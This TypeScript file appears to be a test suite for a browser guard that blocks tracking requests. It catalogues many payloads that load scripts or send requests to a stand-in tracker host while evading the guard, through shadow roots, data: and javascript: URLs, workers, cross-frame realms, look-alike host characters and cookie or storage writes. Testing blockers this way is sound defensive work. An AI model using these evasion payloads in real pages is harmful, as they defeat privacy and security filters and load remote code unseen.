/** What a second look found: newer interfaces, code between two looks of the guard, addresses inside addresses. */
import { code, html, type Way } from './way.js';

const make = (name: string) => `document.createElement("${name}")`;
const add = (name: string) => `document.body.appendChild(${make(name)})`;
const packed = '"fetch(" + JSON.stringify(url) + ").catch(() => {})"';
const image = '"<img src=\\"" + url + "\\">"';
const svg =
  'const n = (x) => document.createElementNS("http://www.w3.org/2000/svg", x); const g = document.body.appendChild(n("svg")); ';
const name = 'const n = "leak_" + id; ';

/** Markup. */
export const outsideMarkup: readonly Way[] = [
  html('shadow-closed', 'js', '<div><template shadowrootmode="closed"><script src="{url}"></script></template></div>'),
  html(
    'shadow-nested',
    'js',
    '<div><template shadowrootmode="open"><section><div><template shadowrootmode="open"><p><script src="{url}"></script></p></template></div></section></template></div>',
  ),
  html(
    'shadow-sheet',
    'css',
    '<div><template shadowrootmode="open"><link rel="stylesheet" href="{url}"></template></div>',
  ),
  html(
    'shadow-style',
    'css',
    '<div><template shadowrootmode="closed"><style>@import "{url}";</style></template></div>',
  ),
  html(
    'shadow-frame',
    'html',
    '<div><template shadowrootmode="closed"><iframe title="f" src="{url}"></iframe></template></div>',
  ),
  html('handler-import', 'js', '<img alt="" src="data:," onerror="import(\'{url}\').catch(() => {})">'),
  html('handler-import-svg', 'js', '<svg width="1" height="1" onload="import(\'{url}\').catch(() => {})"></svg>'),
  html(
    'speculation-document',
    'html',
    '<script type="speculationrules">{"prefetch":[{"where":{"selector_matches":".leak-rule"},"eagerness":"immediate"}]}</script><a class="leak-rule" href="{url}">x</a>',
  ),
  html(
    'speculation-prerender',
    'html',
    '<script type="speculationrules">{"prerender":[{"urls":["{url}"],"eagerness":"immediate"}]}</script>',
  ),
  html(
    'speculation-escaped',
    'html',
    '<script type="speculationrules">{"prefetch":[{"urls":["http:\\/\\/\\u0074racker{escaped}"],"eagerness":"immediate"}]}</script>',
  ),
  html('sheet-data', 'css', '<link rel="stylesheet" href="data:text/css,@import %22{url}%22;">'),
  html(
    'sheet-data-packed',
    'css',
    '<link rel="stylesheet" href="data:text/css;charset=utf-8,%40import%20%22http%3A%2F%2F{host}%2F{path}%22%3B">',
  ),
  html(
    'style-import-data-packed',
    'css',
    '<style>@import "data:text/css,%40import%20%22http%3A%2F%2F{host}%2F{path}%22%3B";</style>',
  ),
  html('script-data-plain', 'gif', '<script src="data:,new Image().src=\'http:%2F%2F{host}/{path}\'"></script>'),
  html('object-data', 'gif', '<object type="text/html" data="data:text/html,<img src={url}>"></object>'),
  html(
    'object-svg',
    'js',
    '<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script href=\'{url}\'/></svg>"></object>',
  ),
  html(
    'embed-svg',
    'js',
    '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script href=\'{url}\'/></svg>">',
  ),
  html('background-row', 'gif', '<table><tr background="{url}"><td>x</table>'),
  html('background-section', 'gif', '<table><thead background="{url}"><tr><th>x</table>'),
  html(
    'template-for',
    'gif',
    '<section><?start name="leak-for"?>x<?end?></section><template for="leak-for"><img alt="" src="{url}"></template>',
  ),
  html(
    'template-for-script',
    'js',
    '<section><?start name="leak-for-2"?>x<?end?></section><template for="leak-for-2"><script src="{url}"></script></template>',
  ),
  html(
    'selected-content',
    'gif',
    '<select style="appearance: base-select"><button><selectedcontent></selectedcontent></button><option selected><img alt="" src="{url}">x</option></select>',
  ),
  html('link-body-prefetch', 'js', '<link rel="prefetch" as="script" href="{url}">'),
  html(
    'frame-srcdoc-shadow',
    'js',
    '<iframe title="f" srcdoc="<div><template shadowrootmode=closed><script src={url}></script></template></div>"></iframe>',
  ),
  html('style-reflect', 'gif', '<style>.q1 { -webkit-box-reflect: below 0 url({url}) }</style><p class="q1">x</p>'),
  html('style-marker', 'gif', '<style>.q7::marker { content: url("{url}") }</style><ul><li class="q7">x</ul>'),
  html(
    'style-scope',
    'gif',
    '<section class="q9"><style>@scope { :scope { background: url("{url}") } }</style>x</section>',
  ),
  html(
    'style-position-try',
    'gif',
    '<style>.q10 { position: absolute; mask-border-source: url("{url}"); -webkit-mask-box-image: url("{url}") 1 }</style><p class="q10">x</p>',
  ),
  html('canvas-fallback', 'gif', '<canvas><img alt="" src="{url}"></canvas>'),
  html('video-fallback', 'gif', '<video src="own.mp4"><img alt="" src="{url}"></video>'),
  html('object-fallback', 'gif', '<object data="none.bin" type="x/y"><img alt="" src="{url}"></object>'),
  html(
    'svg-style-sheet',
    'gif',
    '<svg width="9" height="9"><style>rect { mask: url("{url}") }</style><rect width="9" height="9"/></svg>',
  ),
  html(
    'math-annotation',
    'gif',
    '<math><semantics><annotation-xml encoding="text/html"><img alt="" src="{url}"></annotation-xml></semantics></math>',
  ),
  html(
    'svg-switch',
    'gif',
    '<svg width="9" height="9"><switch><foreignObject width="9" height="9"><img alt="" src="{url}"></foreignObject></switch></svg>',
  ),
];

/** Scripts and elements. */
export const outsideElements: readonly Way[] = [
  code(
    'set-html-script',
    'js',
    `${add('div')}.setHTMLUnsafe("<script src=\\"" + url + "\\"></script>", { runScripts: true })`,
  ),
  code(
    'xhr-document',
    'gif',
    'const x = new XMLHttpRequest(); x.open("GET", "frame?" + url); x.responseType = "document"; x.onload = () => document.body.append(x.response.images[0]); x.send()',
  ),
  code(
    'fetched-markup',
    'gif',
    'fetch("frame?" + url).then((r) => r.text()).then((t) => { document.body.append(document.createRange().createContextualFragment(t)) })',
  ),
  code('image-constructed', 'gif', 'Reflect.construct(Image, [9, 9], HTMLImageElement).src = url'),
  code(
    'element-extended',
    'js',
    'const n = "x-" + Math.random().toString(36).slice(2) + "a"; customElements.define(n, class extends HTMLScriptElement {}, { extends: "script" }); const s = document.createElement("script", { is: n }); s.src = url; document.body.append(s)',
  ),
  code(
    'prefixed-script',
    'js',
    'const s = document.createElementNS("http://www.w3.org/1999/xhtml", "h:script"); s.setAttributeNS(null, "src", url); document.body.append(s)',
  ),
  code(
    'prefixed-of-xml',
    'html',
    'document.body.append(new DOMParser().parseFromString("<x:p xmlns:x=\\"http://www.w3.org/1999/xhtml\\"><x:iframe src=\\"" + url + "\\"/></x:p>", "text/xml").documentElement)',
  ),
  code(
    'xslt-parameter',
    'js',
    'const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString("<xsl:stylesheet version=\\"1.0\\" xmlns:xsl=\\"http://www.w3.org/1999/XSL/Transform\\"><xsl:param name=\\"b\\"/><xsl:template match=\\"/\\"><script src=\\"http:{$b}\\"/></xsl:template></xsl:stylesheet>", "text/xml")); p.setParameter(null, "b", url.slice(5)); document.body.append(p.transformToFragment(document.implementation.createDocument(null, "a"), document))',
  ),
  code(
    'form-field-names',
    'gif',
    'for (const name of ["attributes", "getAttribute", "childNodes", "localName", "ownerDocument", "firstElementChild"]) document.body.append(new DOMParser().parseFromString("<form><input name=" + name + "><img src=\\"" + url + "\\"></form>", "text/html").body.firstChild)',
  ),
  code(
    'shadow-cloned',
    'gif',
    `const h = ${make('div')}; h.attachShadow({ mode: "open", clonable: true }).innerHTML = ${image}; document.body.append(h.cloneNode(true))`,
  ),
  code(
    'shadow-parsed',
    'html',
    'document.body.append(Document.parseHTMLUnsafe("<div><template shadowrootmode=open><iframe src=\\"" + url + "\\"></iframe></template></div>").body.firstChild)',
  ),
  code(
    'element-by-registry',
    'gif',
    `const r = new CustomElementRegistry(); const h = ${add('div')}.attachShadow({ mode: "open", customElementRegistry: r }); h.append(document.importNode(new DOMParser().parseFromString(${image}, "text/html").images[0], { customElementRegistry: r }))`,
  ),
  code(
    'attribute-text-content',
    'js',
    `const s = ${make('script')}; s.setAttribute("src", ""); s.attributes.src.textContent = url; document.body.append(s)`,
  ),
  code(
    'attribute-item',
    'js',
    `const s = ${make('script')}; const a = document.createAttributeNS(null, "src"); a.value = url; s.attributes.setNamedItemNS(a); document.body.append(s)`,
  ),
  code(
    'attribute-moved',
    'js',
    `const t = ${make('a')}; t.setAttribute("src", url); const a = t.removeAttributeNode(t.getAttributeNode("src")); const s = ${make('script')}; s.setAttributeNode(a); document.body.append(s)`,
  ),
  code(
    'json-script',
    'js',
    'const s = document.createElement("script"); s.textContent = "import(" + JSON.stringify(url).replace(/[/]/g, "\\\\/") + ").catch(() => {})"; document.body.append(s)',
  ),
  code(
    'module-slashes',
    'js',
    'const s = document.createElement("script"); s.type = "module"; s.textContent = "import " + JSON.stringify(url).replace(/[/]/g, "\\\\/"); document.body.append(s)',
  ),
  code(
    'module-export',
    'js',
    'const s = document.createElement("script"); s.type = "module"; s.textContent = "export*from" + JSON.stringify(url); document.body.append(s)',
  ),
  code(
    'handler-import-made',
    'js',
    `const b = ${add('b')}; b.setAttribute("onclick", "import(" + JSON.stringify(url) + ").catch(() => {})"); b.click()`,
  ),
  code(
    'handler-import-inner',
    'js',
    `${add('div')}.innerHTML = "<img src=data:, onerror=\\"import('" + url + "').catch(() => {})\\">"`,
  ),
  code(
    'script-data-plain-made',
    'gif',
    `const s = ${make('script')}; s.src = "data:," + encodeURIComponent("new Image().src = " + JSON.stringify(url)); document.body.append(s)`,
  ),
  code(
    'script-data-import',
    'js',
    `const s = ${make('script')}; s.src = "data:," + encodeURIComponent("import(" + JSON.stringify(url) + ").catch(() => {})"); document.body.append(s)`,
  ),
  code(
    'script-blob-json',
    'js',
    `const s = ${make('script')}; s.src = URL.createObjectURL(new Blob(["import(" + JSON.stringify(url) + ").catch(() => {})"], { type: "application/octet-stream" })); document.body.append(s)`,
  ),
  code(
    'svg-style-made',
    'gif',
    `${svg}const s = n("style"); s.textContent = "." + id + view + " { background: url(" + url + ") }"; g.append(s); ${add('p')}.className = id + view`,
  ),
  code(
    'link-image-set',
    'gif',
    `const l = ${make('link')}; l.rel = "preload"; l.as = "image"; l.imageSrcset = url + " 1x"; document.head.append(l)`,
  ),
  code(
    'link-dictionary',
    'txt',
    `const l = ${make('link')}; l.rel = "compression-dictionary"; l.href = url; document.head.append(l)`,
  ),
  code(
    'link-data',
    'css',
    `const l = ${make('link')}; l.rel = "stylesheet"; l.href = "data:text/css," + encodeURIComponent("@import \\"" + url + "\\";"); document.head.append(l)`,
  ),
  code(
    'link-data-packed',
    'css',
    `const l = ${make('link')}; l.rel = "stylesheet"; l.href = "data:text/css;base64," + encodeURIComponent(btoa("@import \\"" + url + "\\";")); document.head.append(l)`,
  ),
  code(
    'rules-document',
    'html',
    `const a = ${add('a')}; a.className = "r" + view; a.href = url; const s = ${make('script')}; s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ where: { selector_matches: "." + a.className }, eagerness: "immediate" }] }); document.head.append(s)`,
    {
      unstoppable:
        'rules that choose links by a selector name no address, and no policy covers what Chromium fetches ahead by them',
    },
  ),
  code(
    'rules-inner',
    'html',
    `const s = ${make('script')}; s.type = "speculationrules"; s.append(JSON.stringify({ prefetch: [{ source: "list", urls: [url] }] }).replace(/[/]/g, "\\\\/")); document.head.append(s)`,
  ),
  code(
    'video-in-template',
    'gif',
    `const t = ${make('template')}; t.innerHTML = "<video poster=\\"" + url + "\\"></video>"; document.body.append(t.content.cloneNode(true))`,
  ),
  code(
    'options-set',
    'gif',
    `const h = new DOMParser().parseFromString("<select><option>x</select>", "text/html"); const o = h.querySelector("option"); o.append(h.createElement("img")); o.firstElementChild?.setAttribute("src", url); ${add('select')}.options[0] = o`,
  ),
  code(
    'fragment-of-other',
    'js',
    `const d = document.implementation.createHTMLDocument(); d.body.innerHTML = "<p></p>"; const s = d.createElement("script"); s.src = url; const f = d.createDocumentFragment(); f.append(s); document.body.prepend(f)`,
  ),
  code(
    'svg-set-of-other',
    'gif',
    `const d = new DOMParser().parseFromString("<svg><image width=9 height=9><set attributeName=href to='" + url + "' /></image></svg>", "text/html"); document.body.append(d.body.firstChild)`,
  ),
  code(
    'svg-paint-of-other',
    'svg',
    `const d = new DOMParser().parseFromString("<svg><rect width=9 height=9 mask='url(" + url + ")' fill='url(" + url + "#a)' /></svg>", "text/html"); document.body.append(d.body.firstChild)`,
  ),
  code(
    'clone-of-other',
    'gif',
    `const d = new DOMParser().parseFromString(${image}, "text/html"); document.body.append(document.importNode(d.body, true))`,
  ),
  code(
    'jsonp',
    'js',
    `window["cb" + id.replace(/-/g, "") + view.replace(/-/g, "_")] = () => {}; const s = ${make('script')}; s.async = true; s.charset = "utf-8"; s.src = url + "?callback=cb"; document.getElementsByTagName("head")[0].insertBefore(s, document.getElementsByTagName("head")[0].firstChild)`,
  ),
  code(
    'object-data-made',
    'gif',
    `const o = ${make('object')}; o.type = "text/html"; o.data = "data:text/html," + encodeURIComponent(${image}); document.body.append(o)`,
  ),
  code(
    'object-svg-made',
    'js',
    `const o = ${make('object')}; o.type = "image/svg+xml"; o.data = "data:image/svg+xml," + encodeURIComponent("<svg xmlns='http://www.w3.org/2000/svg'><script href='" + url + "'/></svg>"); document.body.append(o)`,
  ),
  code(
    'link-ping-svg',
    'txt',
    `${svg}const a = n("a"); a.setAttribute("href", "#"); a.setAttribute("ping", url); g.append(a); a.dispatchEvent(new MouseEvent("click", { bubbles: true }))`,
  ),
  code(
    'form-button-outside',
    'html',
    `const f = ${make('iframe')}; f.name = "o" + view; document.body.append(f); const m = ${add('form')}; m.id = "m" + view; m.target = f.name; const b = ${add('button')}; b.setAttribute("form", m.id); b.formAction = url; b.click()`,
  ),
  code('frame-location-assign', 'html', `${add('iframe')}.contentWindow.location.assign(url)`),
  code('frame-document-location', 'html', `${add('iframe')}.contentDocument.location = url`),
  code('frame-index-location', 'html', `${add('iframe')}; frames[frames.length - 1].location = url`),
  code(
    'frame-javascript-packed',
    'gif',
    `const f = ${make('iframe')}; f.src = "javascript:'" + encodeURIComponent(${image}) + "'"; document.body.append(f)`,
  ),
  code(
    'frame-javascript-script',
    'js',
    `const f = ${make('iframe')}; f.src = "javascript:" + encodeURIComponent(JSON.stringify("<script src=" + url + "></" + "script>")); document.body.append(f)`,
  ),
  code(
    'frame-javascript-tabs',
    'js',
    `const f = ${make('iframe')}; f.src = "\\x01java\\tscript:" + encodeURIComponent(JSON.stringify("<script src=" + url + "></" + "script>")); document.body.append(f)`,
  ),
  code(
    'frame-data-broken',
    'js',
    `const f = ${make('iframe')}; f.src = "da\\nta:text/html," + encodeURIComponent("<script src=" + url + "></" + "script>"); document.body.append(f)`,
  ),
  code(
    'frame-javascript-location',
    'txt',
    `${add('iframe')}.contentWindow.location = "javascript:" + encodeURIComponent(${packed})`,
  ),
  code(
    'frame-srcdoc-packed',
    'gif',
    `const f = ${make('iframe')}; f.srcdoc = ${image}.replace("://", "&#x3A;&#47;&sol;"); document.body.append(f)`,
  ),
  code(
    'frame-data-tabs',
    'gif',
    `const f = ${make('iframe')}; f.src = "da\\tta:text/html," + encodeURIComponent(${image}); document.body.append(f)`,
  ),
  code(
    'frame-data-packed-percent',
    'gif',
    `const f = ${make('iframe')}; f.src = "data:text/html;base64," + encodeURIComponent(btoa(${image} + "?")); document.body.append(f)`,
  ),
  code(
    'module-text-later',
    'js',
    `const s = ${add('script')}; s.type = "module"; s.textContent = "import " + JSON.stringify(url)`,
  ),
];

/** Calls. */
export const outsideCalls: readonly Way[] = [
  code('fetch-object', 'txt', 'fetch({ toString: () => url }).catch(() => {})'),
  code('socket-http', 'ws', 'new WebSocket(url)'),
  code('socket-relative', 'ws', 'new WebSocket(url.slice(5))'),
  code('request-extended', 'txt', 'fetch(new (class extends Request {})(url)).catch(() => {})'),
  code(
    'xhr-extended',
    'txt',
    'const x = new (class extends XMLHttpRequest { open(...a) { super.open(...a) } })(); x.open("GET", url); x.send()',
  ),
  code('xhr-proxy', 'txt', 'const X = new Proxy(XMLHttpRequest, {}); const x = new X(); x.open("GET", url); x.send()'),
  code('beacon-blob', 'txt', 'navigator.sendBeacon(url, new Blob(["x"], { type: "text/plain" }))'),
  code('beacon-form', 'txt', 'const f = new FormData(); f.append("a", "b"); navigator.sendBeacon(new URL(url), f)'),
  code('wasm', 'txt', 'WebAssembly.compileStreaming(fetch(url)).catch(() => {})'),
  code(
    'cache-match',
    'txt',
    'caches.open("shop").then((c) => c.add(new Request(url, { mode: "no-cors" }))).catch(() => {})',
  ),
  code(
    'media-artwork-set',
    'gif',
    `const m = ${add('audio')}; m.src = "own.mp3"; const d = navigator.mediaSession.metadata = new MediaMetadata({ title: "x" }); d.artwork = [{ src: url, sizes: "96x96", type: "image/gif" }]; m.play().catch(() => {})`,
  ),
  code(
    'federated',
    'json',
    'navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: "x" }] } }).catch(() => {})',
  ),
  code(
    'worklet-blob',
    'js',
    'new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(URL.createObjectURL(new Blob(["import " + JSON.stringify(url)], { type: "text/javascript" }))).catch(() => {})',
  ),
  code(
    'worklet-data',
    'js',
    'new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule("data:text/javascript," + encodeURIComponent("import " + JSON.stringify(url))).catch(() => {})',
  ),
  code('worker-data-plain', 'txt', `new Worker("data:," + encodeURIComponent(${packed}))`),
  code('worker-data-packed', 'txt', `new Worker("data:;base64," + encodeURIComponent(btoa(${packed})))`),
  code(
    'worker-data-module',
    'js',
    'new Worker("data:text/javascript," + encodeURIComponent("import " + JSON.stringify(url)), { type: "module" })',
  ),
  code(
    'worker-blob-reader',
    'txt',
    `const r = new FileReader(); r.onload = () => new Worker(r.result); r.readAsDataURL(new Blob([${packed}], { type: "text/javascript" }))`,
  ),
  code(
    'ready-state',
    'js',
    'const go = () => { const s = document.createElement("script"); s.src = url; document.head.append(s) }; document.readyState === "loading" ? document.addEventListener("readystatechange", go, { once: true }) : go()',
  ),
  code(
    'view-transition',
    'gif',
    'document.startViewTransition ? document.startViewTransition(() => { new Image().src = url }).finished.catch(() => {}) : (new Image().src = url)',
  ),
  code(
    'intersection',
    'gif',
    `const i = new Image(9, 9); i.dataset.src = url; document.body.append(i); new IntersectionObserver((e, o) => { o.disconnect(); i.src = i.getAttribute("data-src") }).observe(i)`,
  ),
  code(
    'wide-letters',
    'gif',
    `${add('div')}.innerHTML = "<img src=\\"" + url.replace("t", "\\uff54").replace("htt", "htt").replace("h\\uff54tp", "http").replace("tracker", "\\uff54racker") + "\\">"`,
  ),
  code(
    'soft-hyphen',
    'gif',
    `${add('div')}.innerHTML = "<img src=\\"" + url.replace("tracker", "tra\\u00adcker") + "\\">"`,
  ),
  code(
    'ideographic-dot',
    'gif',
    `${add('div')}.innerHTML = "<img src=\\"" + url.replace("tracker.", "tracker\\u3002") + "\\">"`,
  ),
  code('many-slashes', 'gif', `${add('div')}.innerHTML = "<img src=\\"" + url.replace("//", "/////") + "\\">"`),
  code('no-quotes', 'gif', `${add('div')}.innerHTML = "<img src=" + url + ">"`),
];

/** Style. */
// What asks for a layout at once has a page of its own, or the styles of the others would be looked at before the guard's turn.
export const outsideStyles: readonly Way[] = [
  code(
    'style-flushed',
    'gif',
    `const p = ${add('p')}; p.style.backgroundImage = "url(" + url + ")"; p.offsetWidth; getComputedStyle(p).backgroundImage`,
    { alone: true },
  ),
  code(
    'style-unparsed',
    'gif',
    `const p = ${add('p')}; p.attributeStyleMap.set("--u", new CSSUnparsedValue([" url(" + url + ")"])); p.style.background = "var(--u)"`,
  ),
  code(
    'style-typed-rule',
    'gif',
    `const s = document.head.appendChild(${make('style')}); s.textContent = "main {}"; s.sheet.cssRules[0].styleMap.append("background-image", "url(" + url + ")")`,
  ),
  code(
    'sheet-replace',
    'gif',
    `const s = new CSSStyleSheet(); s.replace(".replaced-" + view + " { background: url(" + url + ") }"); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; ${add('p')}.className = "replaced-" + view`,
  ),
  code(
    'style-of-xml',
    'css',
    'const d = document.implementation.createDocument(null, "a"); const s = d.createElementNS("http://www.w3.org/1999/xhtml", "style"); s.append(d.createCDATASection("@import \\"" + url + "\\";")); document.body.append(s)',
    // WebKit waits with the images of other rules until the page goes.
    { alone: true },
  ),
  code(
    'sheet-of-frame',
    'gif',
    `const w = ${add('iframe')}.contentWindow; const s = w.document.head.appendChild(w.document.createElement("style")); s.textContent = "body { background: url(" + url + ") }"`,
  ),
  code(
    'rule-keyframe-style',
    'gif',
    `const s = document.head.appendChild(${make('style')}); s.textContent = "@keyframes f-" + view + " { from {} to {} }"; for (const r of s.sheet.cssRules[0].cssRules) r.style.backgroundImage = "url(" + url + ")"; ${add('p')}.style.animation = "f-" + view + " 1s infinite"`,
  ),
  code(
    'rule-nested-style',
    'gif',
    `const s = document.head.appendChild(${make('style')}); s.textContent = "main { & {} color: red; }"; for (const r of s.sheet.cssRules[0].cssRules) r.style.backgroundImage = "url(" + url + ")"; s.sheet.cssRules[0].style.setProperty("border-image", "url(" + url + ") 1")`,
  ),
  code(
    'rule-flushed',
    'gif',
    `const s = document.head.appendChild(${make('style')}); s.textContent = "main {}"; s.sheet.cssRules[0].style["background-image"] = "url(" + url + ")"; document.querySelector("main").offsetWidth`,
    { alone: true },
  ),
  code(
    'rule-property',
    'gif',
    `const s = document.head.appendChild(${make('style')}); s.sheet.insertRule("@property --p-" + view + " { syntax: '<image>'; inherits: false; initial-value: url(" + url + ") }"); ${add('p')}.style.background = "var(--p-" + view + ")"`,
  ),
  code(
    'style-import-data-made',
    'css',
    `document.head.appendChild(${make('style')}).textContent = "@import \\"data:text/css," + encodeURIComponent("@import \\"" + url + "\\";") + "\\";"`,
  ),
  code(
    'style-import-blob',
    'css',
    `document.head.appendChild(${make('style')}).textContent = "@import \\"" + URL.createObjectURL(new Blob(["@import \\"" + url + "\\";"], { type: "text/css" })) + "\\";"`,
  ),
  code(
    'style-inner-shadow',
    'gif',
    `${add('div')}.attachShadow({ mode: "closed" }).innerHTML = "<style>:host { background: url(" + url + ") }</style>"`,
  ),
  code(
    'style-adopted-shadow',
    'gif',
    `const s = new CSSStyleSheet(); s.insertRule(":host { background: url(" + url + ") }"); ${add('div')}.attachShadow({ mode: "closed" }).adoptedStyleSheets = [s]`,
  ),
  code(
    'style-of-other',
    'gif',
    `const d = document.implementation.createHTMLDocument(); const s = d.createElement("style"); s.textContent = "main { background: url(" + url + ") }"; document.head.append(s)`,
  ),
  code(
    'style-cloned',
    'gif',
    `const s = ${make('style')}; s.textContent = "main { list-style-image: url(" + url + "); display: list-item }"; document.head.append(s.cloneNode(true))`,
  ),
  code(
    'style-attribute-cloned',
    'gif',
    `const p = ${make('p')}; p.style.background = "url(" + url + ")"; document.body.append(p.cloneNode(true))`,
  ),
  code(
    'font-set',
    'woff',
    'document.fonts.add(new FontFace("set-" + view, "local(x), url(" + url + ")")); document.fonts.load("12px set-" + view).catch(() => {})',
  ),
  code(
    'xml-sheet-attribute',
    'css',
    `document.body.appendChild(${make('iframe')}).onload = ({ target }) => { target.onload = null; const d = target.contentDocument; const p = d.createProcessingInstruction("xml-stylesheet", "type=\\"text/css\\""); d.insertBefore(p, d.documentElement); p.setAttribute("href", url) }; document.body.lastChild.src = "frame.xml?own.css"`,
  ),
  code(
    'xml-sheet-append',
    'css',
    `document.body.appendChild(${make('iframe')}).onload = ({ target }) => { target.onload = null; const d = target.contentDocument; const p = d.createProcessingInstruction("xml-stylesheet", "type=\\"text/css\\" "); d.insertBefore(p, d.documentElement); p.appendData("href=\\"" + url + "\\"") }; document.body.lastChild.src = "frame.xml?own.css"`,
  ),
  // By names that only some engines have a door for.
  code('style-dashed', 'gif', `${add('p')}.style["mask-image"] = "url(" + url + ")"`),
  code('style-dashed-list', 'gif', `${add('li')}.style["list-style"] = "url(" + url + ")"`),
  code(
    'style-prefixed',
    'gif',
    `const p = ${add('p')}; p.style.border = "3px solid"; p.style.webkitBorderImage = "url(" + url + ") 1"; p.style.WebkitMask = "url(" + url + ")"`,
  ),
  code(
    'rule-keyframe-assigned',
    'gif',
    `const s = document.head.appendChild(${make('style')}); s.textContent = "@keyframes k" + view + " { from { color: red } to { color: blue } }"; for (const k of s.sheet.cssRules[0].cssRules) k.style = "background-image: url(" + url + ")"; ${add('p')}.style.animation = "k" + view + " 9s"`,
  ),
  code(
    'style-beside-selector',
    'gif',
    `const s = document.head.appendChild(${make('style')}); s.textContent = "a[href^='" + url + "'], ." + id + view + " { background: url(" + url + ") }"; ${add('p')}.className = id + view`,
  ),
  // By each name that a style has for it, in one engine or another.
  code(
    'style-by-every-name',
    'svg',
    `for (const name of ${JSON.stringify([
      ...['background', 'background-image', 'content', 'listStyle', 'shapeOutside', 'clipPath', 'webkitClipPath'],
      ...['mask', 'maskImage', 'webkitMask', 'webkitMaskImage', '-webkit-mask-image', 'webkitMaskBoxImage'],
      ...['webkitMaskBoxImageSource', 'borderImage', 'borderImageSource', 'webkitBorderImage'],
      ...['marker', 'markerStart', 'fill', 'stroke'],
    ])}) { const p = ${add('p')}; p.textContent = "x"; p.style[name] = "url(" + url + "#f)" }`,
    { alone: true },
  ),
];

/** Realms. */
export const outsideRealms: readonly Way[] = [
  code(
    'realm-recount',
    'txt',
    `const h = ${add('div')}; h.innerHTML = "<iframe></iframe>"; h.firstChild.remove(); const d = ${make('div')}; d.append(${make('iframe')}); h.append(d); frames[frames.length - 1].fetch(url).catch(() => {})`,
  ),
  code(
    'realm-recount-named',
    'txt',
    `const f = ${add('iframe')}; f.remove(); const d = ${make('div')}; const k = ${make('iframe')}; k.name = "re" + view; d.append(k); document.body.append(d); window[k.name].fetch(url).catch(() => {})`,
  ),
  code(
    'realm-connected',
    'txt',
    `const n = "x-" + Math.random().toString(36).slice(2) + "b"; customElements.define(n, class extends HTMLElement { connectedCallback() { window[length - 1].fetch(url).catch(() => {}) } }); ${add('div')}.innerHTML = "<iframe></iframe><" + n + "></" + n + ">"`,
  ),
  code(
    'realm-head',
    'txt',
    `const h = new DOMParser().parseFromString("<table><caption><iframe name=cap-" + view + "></iframe>", "text/html").querySelector("caption"); ${add('table')}.caption = document.importNode(h, true); window["cap-" + view].fetch(url).catch(() => {})`,
  ),
  code(
    'realm-svg-document',
    'txt',
    `const o = ${make('object')}; o.type = "image/svg+xml"; o.data = "frame.svg?own.js"; o.onload = () => o.getSVGDocument().defaultView.fetch(url).catch(() => {}); document.body.append(o)`,
  ),
  code(
    'realm-embed',
    'txt',
    `const e = ${make('embed')}; e.type = "image/svg+xml"; e.src = "frame.svg?own.js"; e.onload = () => e.getSVGDocument().defaultView.fetch(url).catch(() => {}); document.body.append(e)`,
  ),
  code(
    'realm-object-now',
    'txt',
    `const o = ${make('object')}; o.type = "text/html"; o.data = "about:blank"; document.body.append(o); frames[frames.length - 1].fetch(url).catch(() => {})`,
  ),
  code(
    'realm-event-view',
    'txt',
    `const f = ${make('iframe')}; f.srcdoc = "<script>parent.postMessage('" + id + view + "', '*')</script>"; addEventListener("message", (e) => { if (e.data === id + view) e.source.fetch(url).catch(() => {}) }); document.body.append(f)`,
  ),
  code(
    'realm-parent',
    'txt',
    `const f = ${make('iframe')}; f.srcdoc = "<script>parent.fetch('" + url.replace("tracker", "tra'+'cker") + "').catch(() => {})</script>"; document.body.append(f)`,
  ),
  code(
    'realm-prototype',
    'txt',
    `const d = ${make('div')}; d.innerHTML = "<iframe></iframe>"; document.body.append(d); Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, "contentWindow").get.call(d.firstChild).fetch(url).catch(() => {})`,
  ),
  code(
    'realm-function',
    'txt',
    `const w = ${add('iframe')}.contentWindow; w.Function("u", "fetch(u).catch(() => {})")(url)`,
  ),
  code(
    'realm-timer',
    'txt',
    `const w = ${add('iframe')}.contentWindow; w.setTimeout("fetch(" + JSON.stringify(url) + ").catch(() => {})")`,
  ),
  code(
    'realm-opened-document',
    'gif',
    `const d = ${add('iframe')}.contentDocument; d.open(); d.write(${image}); d.close()`,
  ),
  code('realm-open-address', 'html', `const w = ${add('iframe')}.contentWindow; w.document.open(url, "o" + view, "")`),
  code(
    'realm-shadow-unsafe',
    'txt',
    `const h = ${add('div')}; h.setHTMLUnsafe("<div><template shadowrootmode=open><iframe></iframe></template></div>"); h.firstChild.shadowRoot.firstChild.contentWindow.fetch(url).catch(() => {})`,
  ),
  code(
    'realm-moved',
    'txt',
    `const f = ${add('iframe')}; const w = f.contentWindow; const d = ${add('div')}; d.append(f); frames[frames.length - 1].fetch(url).catch(() => {})`,
  ),
  code(
    'realm-xml-http',
    'txt',
    `const w = ${add('iframe')}.contentWindow; const x = Reflect.construct(XMLHttpRequest, [], w.XMLHttpRequest); w.XMLHttpRequest.prototype.open.call(x, "GET", url); x.send()`,
  ),
];

/** Storage. */
export const outsideStorage: readonly Way[] = [
  code(
    'cookie-domain',
    'none',
    `${name}document.cookie = n + "=" + view + "; domain=" + location.hostname + "; path=/; SameSite=Lax"`,
  ),
  code('cookie-expired-first', 'none', `${name}document.cookie = n + "=" + view + "; max-age=0; max-age=999; path=/"`),
  code(
    'cookie-getter',
    'none',
    `${name}document.__lookupSetter__("cookie").call(document, n + "=" + view + "; path=/")`,
  ),
  code(
    'cookie-fetched',
    'cookie',
    'fetch("redirect?" + url, { credentials: "include", mode: "no-cors" }).catch(() => {})',
  ),
  code(
    'local-child',
    'none',
    `${name}Object.create(localStorage)[n] = view; Reflect.set(localStorage, n, view, localStorage)`,
  ),
  code(
    'local-frame-prototype',
    'none',
    `${name}const w = ${add('iframe')}.contentWindow; w.Storage.prototype.setItem.call(localStorage, n, view)`,
  ),
  code('local-value-of', 'none', `${name}localStorage.valueOf()[n] = view`),
  code(
    'file-folder',
    'none',
    `${name}navigator.storage.getDirectory().then((d) => d.getDirectoryHandle(n + "_" + view, { create: true })).catch(() => {})`,
  ),
];
